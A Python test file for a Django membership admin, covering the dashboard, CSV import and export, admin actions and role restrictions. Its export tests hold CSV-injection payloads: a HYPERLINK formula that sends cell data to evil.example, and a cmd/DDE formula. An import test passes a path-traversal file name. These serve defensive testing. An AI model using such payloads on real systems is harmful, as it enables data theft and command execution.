"""The members' admin beyond the stock pages: the membership dashboard, CSV import and
export of companies and people, the renew and publish actions, membership periods that may
not overlap, the standing filter, and the account admin, where organizers give roles
without raising anyone's rights and the program committee cannot open memberships."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.contrib.messages import get_messages
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from members.images import LOGO
from members.models import CaseStudy, Member, MemberCompany, Membership
from members.resources import MemberCompanyResource, MemberResource
from tests.conftest import admin_url
from tests.factories import (
    CaseStudyFactory,
    MemberCompanyFactory,
    MemberFactory,
    MembershipFactory,
    MembershipTierFactory,
    RenewalNoticeFactory,
    ReviewerFactory,
    UserFactory,
)
from tests.images import image_bytes, upload

pytestmark = pytest.mark.django_db


DASHBOARD = "admin:members_membership_dashboard"


# The dashboard


def test_dashboard_shows_tiers_dues_renewals_and_lapsed(organizer_client):
    today = timezone.localdate()
    gold = MembershipTierFactory(name="Gold <b>", annual_dues=Decimal("9000"))
    MemberCompanyFactory(name="Orbit Bank", membership__tier=gold)
    due = MemberCompanyFactory(
        name="Nimbus Retail",
        membership__tier=gold,
        membership__starts_on=today - datetime.timedelta(days=300),
        membership__ends_on=today + datetime.timedelta(days=64),
    )
    RenewalNoticeFactory(membership=due.memberships.get(), days_before=60)
    MemberCompanyFactory(name="Quokka Games", membership__state=Membership.State.LAPSED)

    response = organizer_client.get(reverse(DASHBOARD))

    context = response.context
    content = response.content.decode()
    assert (response.status_code, context["active_companies"]) == (200, 2)
    assert next((row["tier"].name, row["companies"]) for row in context["by_tier"]) == (
        "Gold <b>",
        2,
    )
    assert [m.company.name for m in context["renewals_due"]] == ["Nimbus Retail"]
    assert [m.company.name for m in context["lapsed"]] == ["Quokka Games"]
    assert sum(row["total"] for row in context["dues_by_year"]) == Decimal("23000.00")
    assert ("<svg" in content, "Gold &lt;b&gt;" in content, "Gold <b>" in content) == (
        True,
        True,
        False,
    )


@pytest.mark.parametrize("count", [1, 6])
def test_dashboard_runs_fixed_number_of_queries(organizer_client, django_assert_num_queries, count):
    today = timezone.localdate()
    for _ in range(count):
        MemberCompanyFactory(
            membership__starts_on=today - datetime.timedelta(days=300),
            membership__ends_on=today + datetime.timedelta(days=30),
        )
        MemberCompanyFactory(membership__state=Membership.State.LAPSED)
    organizer_client.get(reverse(DASHBOARD))

    with django_assert_num_queries(12):
        organizer_client.get(reverse(DASHBOARD))


def test_dashboard_refused_to_program_committee(client):
    client.force_login(ReviewerFactory())

    assert client.get(reverse(DASHBOARD)).status_code == 403


def test_dashboard_refused_to_people_who_are_not_staff(client):
    client.force_login(UserFactory())

    response = client.get(reverse(DASHBOARD))

    assert (response.status_code, response["Location"].startswith(reverse("admin:login"))) == (
        302,
        True,
    )


def test_dashboard_linked_from_company_changelist(organizer_client):
    response = organizer_client.get(reverse("admin:members_membercompany_changelist"))

    assert reverse(DASHBOARD) in response.content.decode()


# CSV import


COMPANY_HEADER = "slug,name,industry,country,website,description,directory_opt_in\n"


def import_csv(client, model: str, content: bytes, *, confirm: bool = False):
    """Upload through the admin's import page (a dry run); `confirm` then imports for real."""
    response = client.post(
        reverse(f"admin:members_{model}_import"),
        {"format": "0", "import_file": SimpleUploadedFile("import.csv", content, "text/csv")},
    )
    if confirm and response.context.get("confirm_form"):
        response = client.post(
            reverse(f"admin:members_{model}_process_import"),
            response.context["confirm_form"].initial,
        )
    return response


def companies_csv(rows: int, *, start: int = 0) -> bytes:
    lines = [
        f"acme-{n},Acme {n},banking,NL,https://acme{n}.example,Bank number {n},yes\n"
        for n in range(start, start + rows)
    ]
    return (COMPANY_HEADER + "".join(lines)).encode()


def test_company_import_dry_run_previews_and_writes_nothing(organizer_client):
    response = import_csv(organizer_client, "membercompany", companies_csv(3))

    result = response.context["result"]
    assert (result.totals["new"], MemberCompany.objects.count()) == (3, 0)
    assert response.context["confirm_form"] is not None


def test_company_import_confirmed_creates_companies(organizer_client):
    response = import_csv(organizer_client, "membercompany", companies_csv(3), confirm=True)

    assert (response.status_code, MemberCompany.objects.count()) == (302, 3)
    company = MemberCompany.objects.get(slug="acme-1")
    assert (company.name, company.industry, str(company.country), company.directory_opt_in) == (
        "Acme 1",
        "banking",
        "NL",
        True,
    )


def test_company_import_same_file_again_changes_nothing(organizer_client):
    import_csv(organizer_client, "membercompany", companies_csv(3), confirm=True)

    response = import_csv(organizer_client, "membercompany", companies_csv(3))

    totals = response.context["result"].totals
    assert (totals["new"], totals["update"], totals["skip"]) == (0, 0, 3)


def test_company_import_changed_row_updates_matched_by_slug(organizer_client):
    MemberCompanyFactory(slug="acme-0", name="Old name", membership=None)

    import_csv(organizer_client, "membercompany", companies_csv(1), confirm=True)

    assert list(MemberCompany.objects.values_list("slug", "name")) == [("acme-0", "Acme 0")]


def test_company_import_bad_row_lists_line_number_and_writes_nothing(organizer_client):
    content = companies_csv(2) + b"acme-9,Acme 9,no-such-industry,NL,,,no\n"

    response = import_csv(organizer_client, "membercompany", content)

    invalid = response.context["result"].invalid_rows
    assert ([row.number for row in invalid], list(invalid[0].error.message_dict)) == (
        [4],
        ["industry"],
    )
    assert (response.context.get("confirm_form"), MemberCompany.objects.count()) == (None, 0)


def test_company_import_duplicate_slugs_refused(organizer_client):
    content = companies_csv(2) + b"ACME-1,Another,banking,NL,,,no\n"

    response = import_csv(organizer_client, "membercompany", content)

    errors = [str(error.error) for error in response.context["result"].base_errors]
    assert "“acme-1” on lines 3, 4" in errors[0]
    assert (response.context.get("confirm_form"), MemberCompany.objects.count()) == (None, 0)


def test_company_import_missing_columns_refused(organizer_client):
    response = import_csv(organizer_client, "membercompany", b"slug,name\nacme,Acme\n")

    errors = [str(error.error) for error in response.context["result"].base_errors]
    assert "The file lacks the column(s) industry, country." in errors[0]
    assert MemberCompany.objects.count() == 0


def test_company_import_non_utf8_file_refused(organizer_client):
    content = (COMPANY_HEADER + "muller,Müller AG,banking,DE,,,no\n").encode("latin-1")

    response = import_csv(organizer_client, "membercompany", content)

    errors = response.context["form"].errors["import_file"]
    assert errors[0].startswith("The file is not UTF-8 text (byte 0xfc")
    assert MemberCompany.objects.count() == 0


def assert_no_server_details(response) -> None:
    body = response.content.decode()
    assert response.status_code == 200
    assert [
        word for word in ("Traceback", "site-packages", str(settings.BASE_DIR)) if word in body
    ] == []


def test_company_import_missing_columns_shows_message_without_traceback(organizer_client):
    response = import_csv(organizer_client, "membercompany", b"slug,name\nacme,Acme\n")

    assert_no_server_details(response)
    assert (
        "<li>The file lacks the column(s) industry, country. Its first line must name the "
        "columns; these are required: slug, name, industry, country.</li>"
    ) in response.content.decode()


def test_company_import_binary_file_refused_without_traceback(organizer_client):
    content = COMPANY_HEADER.encode() + b"acme,\x00\x01\x02\x7f,banking,NL,,,no\n"

    response = import_csv(organizer_client, "membercompany", content)

    assert_no_server_details(response)
    assert response.context["form"].errors["import_file"] == [
        "Line 2 holds a NUL byte: this is not a text file. Save it as “CSV UTF-8” and import "
        "it again. Nothing was imported."
    ]
    assert MemberCompany.objects.count() == 0


def test_company_import_line_with_extra_values_names_the_line(organizer_client):
    content = companies_csv(2) + b"acme-9,Acme, Inc.,banking,NL,,,no\n"

    response = import_csv(organizer_client, "membercompany", content)

    assert_no_server_details(response)
    assert (
        response.context["form"]
        .errors["import_file"][0]
        .startswith("Line 4 has 8 values but the first line names 7 columns.")
    )


def test_company_import_confirmed_twice_imports_once_and_says_so(organizer_client):
    preview = import_csv(organizer_client, "membercompany", companies_csv(2))
    confirm = preview.context["confirm_form"].initial
    organizer_client.post(reverse("admin:members_membercompany_process_import"), confirm)
    MemberCompany.objects.filter(slug="acme-0").delete()

    again = organizer_client.post(
        reverse("admin:members_membercompany_process_import"), confirm, follow=True
    )

    assert again.redirect_chain == [(reverse("admin:members_membercompany_import"), 302)]
    assert [str(m) for m in get_messages(again.wsgi_request)][-1] == (
        "Nothing was imported: this file was imported already, or its preview is more than a "
        "day old. Upload the file again."
    )
    assert list(MemberCompany.objects.values_list("slug", flat=True)) == ["acme-1"]


@pytest.mark.parametrize(
    "forged",
    [
        {"import_file_name": "0123456789abcdef0123456789abcdef"},
        {"import_file_name": "../../../etc/passwd"},
        {"import_file_name": "x" * 5000},
        {"import_file_name": ""},
        {"format": "7"},
        {"format": "x"},
        {"resource": "3"},
        {"resource": "-1"},
    ],
)
def test_company_import_forged_confirmation_refused_with_message(organizer_client, forged):
    preview = import_csv(organizer_client, "membercompany", companies_csv(2))

    response = organizer_client.post(
        reverse("admin:members_membercompany_process_import"),
        {**preview.context["confirm_form"].initial, **forged},
        follow=True,
    )

    assert response.redirect_chain == [(reverse("admin:members_membercompany_import"), 302)]
    assert [str(m) for m in get_messages(response.wsgi_request)][-1].startswith(
        "Nothing was imported: "
    )
    assert MemberCompany.objects.count() == 0


PEOPLE_HEADER = "email,first_name,last_name,company,job_title,is_primary_contact,public_profile\n"


def people_csv(rows: int, company: str = "orbit") -> bytes:
    lines = [
        f"person{n}@orbit.example,First{n},Last{n},{company},Engineer,"
        f"{'yes' if n == 0 else 'no'},no\n"
        for n in range(rows)
    ]
    return (PEOPLE_HEADER + "".join(lines)).encode()


def test_people_import_creates_accounts_and_members_then_is_idempotent(organizer_client):
    orbit = MemberCompanyFactory(slug="orbit")

    first = import_csv(organizer_client, "member", people_csv(3), confirm=True)
    again = import_csv(organizer_client, "member", people_csv(3))

    members = Member.objects.select_related("user").order_by("user__email")
    assert first.status_code == 302
    assert [(m.user.email, m.company, m.is_primary_contact) for m in members] == [
        ("person0@orbit.example", orbit, True),
        ("person1@orbit.example", orbit, False),
        ("person2@orbit.example", orbit, False),
    ]
    assert members[0].user.has_usable_password() is False
    assert again.context["result"].totals["skip"] == 3


def test_people_import_updates_name_of_known_address(organizer_client):
    MemberCompanyFactory(slug="orbit")
    member = MemberFactory(user__email="person0@orbit.example", user__first_name="Old")

    import_csv(organizer_client, "member", people_csv(1), confirm=True)

    member.refresh_from_db()
    member.user.refresh_from_db()
    assert member.company is not None
    assert (member.user.first_name, member.company.slug) == ("First0", "orbit")


def test_people_import_unknown_company_lists_line_and_writes_nothing(organizer_client):
    MemberCompanyFactory(slug="orbit")
    content = people_csv(2) + b"x@y.example,X,Y,nowhere,,no,no\n"

    response = import_csv(organizer_client, "member", content)

    invalid = response.context["result"].invalid_rows
    assert [(row.number, row.error.message_dict["company"]) for row in invalid] == [
        (4, ["No company has the slug “nowhere”: import it first."])
    ]
    assert (Member.objects.count(), get_user_count()) == (0, 1)


def get_user_count() -> int:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.count()


def test_people_import_two_primary_contacts_refused(organizer_client):
    MemberCompanyFactory(slug="orbit")
    content = people_csv(1) + b"x@orbit.example,X,Y,orbit,,yes,no\n"

    response = import_csv(organizer_client, "member", content)

    invalid = response.context["result"].invalid_rows
    assert [row.number for row in invalid] == [3]
    assert Member.objects.count() == 0


def test_people_import_duplicate_addresses_refused(organizer_client):
    MemberCompanyFactory(slug="orbit")
    content = people_csv(2) + b"PERSON0@orbit.example,X,Y,orbit,,no,no\n"

    response = import_csv(organizer_client, "member", content)

    assert "“person0@orbit.example” on lines 2, 4" in str(
        response.context["result"].base_errors[0].error
    )


def test_people_import_2000_rows_dry_run_then_import(organizer_client):
    MemberCompanyFactory(slug="orbit", membership__tier__seats=5000)
    content = people_csv(2000)

    preview = import_csv(organizer_client, "member", content)
    assert (preview.context["result"].totals["new"], Member.objects.count()) == (2000, 0)

    done = organizer_client.post(
        reverse("admin:members_member_process_import"), preview.context["confirm_form"].initial
    )

    assert (done.status_code, Member.objects.count()) == (302, 2000)


def test_company_import_confirmation_refused_to_program_committee(client):
    client.force_login(ReviewerFactory())

    response = client.post(
        reverse("admin:members_membercompany_process_import"),
        {"import_file_name": "0" * 32, "original_file_name": "a.csv", "format": "0"},
    )

    assert (response.status_code, MemberCompany.objects.count()) == (403, 0)


def test_company_import_refused_to_program_committee(client):
    client.force_login(ReviewerFactory())

    response = client.get(reverse("admin:members_membercompany_import"))

    assert response.status_code == 403


# CSV export


def test_company_export_round_trips_through_import():
    MemberCompanyFactory(slug="orbit", name="Orbit, Bank", industry="banking", country="NL")

    exported = MemberCompanyResource().export().csv

    assert exported.splitlines() == [
        COMPANY_HEADER.strip(),
        'orbit,"Orbit, Bank",banking,NL,https://orbit.example.com,,yes',
    ]


def test_people_export_names_company_by_slug():
    MemberFactory(
        user__email="ada@orbit.example",
        user__first_name="Ada",
        user__last_name="Lovelace",
        company__slug="orbit",
        job_title="CTO",
        is_primary_contact=True,
    )

    exported = MemberResource().export().csv

    assert exported.splitlines()[1] == "ada@orbit.example,Ada,Lovelace,orbit,CTO,yes,no"


def export_csv(client, model: str) -> list[list[str]]:
    """Download the model's CSV through the admin's export page, every column chosen."""
    form = client.get(reverse(f"admin:members_{model}_export")).context["form"]
    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
    response = client.post(
        reverse(f"admin:members_{model}_export"), {"format": "0", "resource": "0", **columns}
    )
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


FORMULAE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "==1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_people_export_escapes_formulae_in_every_cell(organizer_client):
    for number, formula in enumerate(FORMULAE):
        MemberFactory(
            user__email=f"p{number}@orbit.example",
            user__first_name=formula,
            job_title=formula,
            company__slug=f"orbit-{number}",
        )

    rows = export_csv(organizer_client, "member")

    by_email = {row[0]: row for row in rows[1:]}
    assert [
        (by_email[f"p{n}@orbit.example"][1], by_email[f"p{n}@orbit.example"][4])
        for n in range(len(FORMULAE))
    ] == [("'" + formula, "'" + formula) for formula in FORMULAE]
    assert [
        cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
    ] == []


def test_company_export_escapes_formulae(organizer_client):
    MemberCompanyFactory(slug="orbit", name="=1+1", description="@cmd", membership=None)

    rows = export_csv(organizer_client, "membercompany")

    assert (rows[1][1], rows[1][5]) == ("'=1+1", "'@cmd")


def test_people_export_with_formulae_imports_back_unchanged(organizer_client):
    MemberFactory(
        user__email="ada@orbit.example",
        user__first_name="'quoted",
        job_title='=HYPERLINK("https://evil.example","x")',
        company__slug="orbit",
    )
    rows = export_csv(organizer_client, "member")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)

    response = import_csv(organizer_client, "member", buffer.getvalue().encode())

    member = Member.objects.select_related("user").get()
    assert response.context["result"].totals["skip"] == 1
    assert (member.user.first_name, member.job_title) == (
        "'quoted",
        '=HYPERLINK("https://evil.example","x")',
    )


def test_company_export_page_opens(organizer_client):
    response = organizer_client.get(reverse("admin:members_membercompany_export"))

    assert response.status_code == 200


# Actions


def test_renew_action_adds_next_period(organizer_client):
    membership = MembershipFactory()

    organizer_client.post(
        reverse("admin:members_membership_changelist"),
        {"action": "renew", "_selected_action": [membership.pk], "index": 0},
    )

    periods = list(membership.company.memberships.order_by("starts_on"))
    assert [(p.state, p.starts_on) for p in periods][-1] == (
        Membership.State.PENDING,
        membership.ends_on + datetime.timedelta(days=1),
    )


def test_publish_action_publishes_in_review_and_refuses_draft(organizer_client):
    draft = CaseStudyFactory(title="Half-written")
    ready = CaseStudyFactory(title="Ready", state=CaseStudy.State.IN_REVIEW)

    response = organizer_client.post(
        reverse("admin:members_casestudy_changelist"),
        {"action": "publish", "_selected_action": [draft.pk, ready.pk], "index": 0},
        follow=True,
    )

    draft.refresh_from_db()
    ready.refresh_from_db()
    assert (draft.state, ready.state) == (CaseStudy.State.DRAFT, CaseStudy.State.PUBLISHED)
    assert sorted(str(m) for m in get_messages(response.wsgi_request)) == [
        "1 case study published.",
        "“Half-written” is draft; only a case study in review can be published.",
    ]


def test_people_import_failing_at_confirmation_writes_nothing(organizer_client):
    orbit = MemberCompanyFactory(slug="orbit")
    preview = import_csv(organizer_client, "member", people_csv(3))
    orbit.memberships.all().delete()
    orbit.delete()  # the file's company is gone between preview and confirmation

    response = organizer_client.post(
        reverse("admin:members_member_process_import"),
        preview.context["confirm_form"].initial,
        follow=True,
    )

    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Nothing was imported: the file no longer imports cleanly (line 2, 3, 4). "
        "Upload it again to see why."
    ]
    assert (Member.objects.count(), get_user_count()) == (0, 1)


# Companies and their membership periods


def test_admin_standing_filter_lists_companies_in_good_standing(organizer_client, populated):
    response = organizer_client.get(admin_url(MemberCompany, "changelist"), {"standing": "good"})

    assert [company.name for company in response.context["cl"].result_list] == ["Orbit Bank"]


def test_admin_company_with_two_overlapping_new_periods_refused(organizer_client):
    company = MemberCompanyFactory(membership=None)
    tier = MembershipTierFactory()
    data: dict[str, object] = {
        "name": company.name,
        "slug": company.slug,
        "industry": company.industry,
        "country": str(company.country),
        "website": "",
        "description": "",
        "memberships-TOTAL_FORMS": "2",
        "memberships-INITIAL_FORMS": "0",
        "memberships-MIN_NUM_FORMS": "0",
        "memberships-MAX_NUM_FORMS": "1000",
        "people-TOTAL_FORMS": "0",
        "people-INITIAL_FORMS": "0",
        "people-MIN_NUM_FORMS": "0",
        "people-MAX_NUM_FORMS": "1000",
    }
    for index, (starts, ends) in enumerate(
        [("2030-01-01", "2030-12-31"), ("2030-06-01", "2031-05-31")]
    ):
        data.update(
            {
                f"memberships-{index}-tier": tier.pk,
                f"memberships-{index}-starts_on": starts,
                f"memberships-{index}-ends_on": ends,
                f"memberships-{index}-dues": "1000",
                f"memberships-{index}-state": Membership.State.ACTIVE,
            }
        )

    response = organizer_client.post(admin_url(MemberCompany, "change", company.pk), data)

    assert (response.status_code, company.memberships.count()) == (200, 0)
    assert "The periods 2030-01-01 to 2030-12-31 and 2030-06-01 to 2031-05-31 overlap." in (
        response.content.decode()
    )


# People without the role are kept out


def test_admin_program_committee_cannot_open_memberships(client):
    client.force_login(ReviewerFactory())

    response = client.get(admin_url(Membership, "changelist"))

    assert response.status_code == 403


# Organizers manage accounts without raising anyone's rights


def user_form(user, **changes) -> dict:
    data = {
        "username": user.username,
        "first_name": user.first_name,
        "last_name": user.last_name,
        "email": user.email,
        "is_active": "on",
        "is_staff": "on",
        "date_joined_0": "2026-01-01",
        "date_joined_1": "09:00",
        "groups": [group.pk for group in user.groups.all()],
    }
    data.update(changes)
    return data


def test_admin_organizer_cannot_make_anyone_superuser(organizer_client, organizer):
    url = admin_url(organizer.__class__, "change", organizer.pk)

    page = organizer_client.get(url)
    response = organizer_client.post(url, user_form(organizer, is_superuser="on"))

    organizer.refresh_from_db()
    assert (page.status_code, response.status_code, organizer.is_superuser) == (200, 302, False)
    assert 'name="is_superuser"' not in page.content.decode()


def test_admin_organizer_can_give_someone_the_program_committee_role(organizer_client):
    person = UserFactory(is_staff=True)
    committee = Group.objects.get(name="Program committee")

    response = organizer_client.post(
        admin_url(person.__class__, "change", person.pk), user_form(person, groups=[committee.pk])
    )

    assert (response.status_code, list(person.groups.values_list("name", flat=True))) == (
        302,
        ["Program committee"],
    )


@pytest.mark.parametrize("view", ["change", "password"])
def test_admin_organizer_cannot_change_a_superuser(organizer_client, view):
    superuser = UserFactory(is_staff=True, is_superuser=True)
    url = (
        admin_url(superuser.__class__, "change", superuser.pk)
        if view == "change"
        else reverse("admin:auth_user_password_change", args=[superuser.pk])
    )

    if view == "change":
        response = organizer_client.post(url, user_form(superuser, first_name="Mallory"))
    else:
        response = organizer_client.post(url, {"password1": "x" * 20, "password2": "x" * 20})

    superuser.refresh_from_db()
    assert (response.status_code, superuser.first_name != "Mallory") == (403, True)
    assert superuser.check_password("correct horse battery staple")


# The company's logo


def company_form(company: MemberCompany, **fields) -> dict:
    return {
        "name": company.name,
        "slug": company.slug,
        "industry": company.industry,
        "country": str(company.country),
        "website": "",
        "description": "",
        "memberships-TOTAL_FORMS": "0",
        "memberships-INITIAL_FORMS": "0",
        "people-TOTAL_FORMS": "0",
        "people-INITIAL_FORMS": "0",
        "domains-TOTAL_FORMS": "0",
        "domains-INITIAL_FORMS": "0",
        **fields,
    }


def test_admin_company_logo_upload_and_removal(
    organizer_client, django_capture_on_commit_callbacks
):
    company = MemberCompanyFactory(membership=None, name="Orbit <Bank>")
    url = reverse("admin:members_membercompany_change", args=[company.pk])

    response = organizer_client.post(
        url, company_form(company, logo_upload=upload(image_bytes("JPEG"), "logo.jpg"))
    )

    assert response.status_code == 302
    company.refresh_from_db()
    names = LOGO.names(company.logo)
    assert all(default_storage.exists(name) for name in names)
    page = organizer_client.get(url).content.decode()
    assert f'src="{company.logo_small_url}" alt="Orbit &lt;Bank&gt; logo"' in page

    with django_capture_on_commit_callbacks(execute=True):
        organizer_client.post(url, company_form(company, remove_logo="on"))

    company.refresh_from_db()
    assert company.logo == ""
    assert not any(default_storage.exists(name) for name in names)


def test_admin_company_logo_refuses_a_renamed_text_file_at_the_field(organizer_client):
    company = MemberCompanyFactory(membership=None)

    response = organizer_client.post(
        reverse("admin:members_membercompany_change", args=[company.pk]),
        company_form(company, description="Changed", logo_upload=upload(b"text", "logo.png")),
    )

    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {
        "logo_upload": ["Upload a JPEG, PNG or WebP image; this file is not one."]
    }
    company.refresh_from_db()
    assert (company.description, company.logo) == ("", "")
